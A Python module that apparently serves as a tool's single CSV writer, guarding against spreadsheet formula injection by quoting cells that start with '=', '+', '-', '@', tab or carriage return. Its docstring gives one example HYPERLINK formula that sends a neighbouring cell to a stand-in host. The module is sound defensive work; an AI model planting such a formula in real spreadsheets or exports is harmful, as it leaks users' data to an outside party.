"""CSV for spreadsheets: the one writer every CSV output uses (the CLI's ``--csv``, the web app's
export), so that a document's text is never read by a spreadsheet as a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?x="&A1,"点击")`` sends a neighbouring
cell away when clicked). As OWASP advises for CSV injection, such a text cell gets a leading ``'``,
which spreadsheets read as "this is text" and do not show. Numbers are written as numbers (a score of
-0.5 stays a number)."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Iterable
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value, clean: Callable[[str], str] | None = None):
    """``value`` as one CSV cell: lists as JSON, text that would start a formula behind a ``'``;
    ``clean`` (e.g. the terminal's control-character filter) is applied to text first."""
    if isinstance(value, (list, tuple)):
        value = json.dumps(value)
    if not isinstance(value, str):
        return value
    if clean is not None:
        value = clean(value)
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def write_csv(out: TextIO, rows: Iterable[dict], columns: list[str], clean: Callable[[str], str] | None = None) -> None:
    """A header of ``columns``, then one line per row (other keys are left out)."""
    writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore", lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({key: spreadsheet_cell(value, clean) for key, value in row.items()})
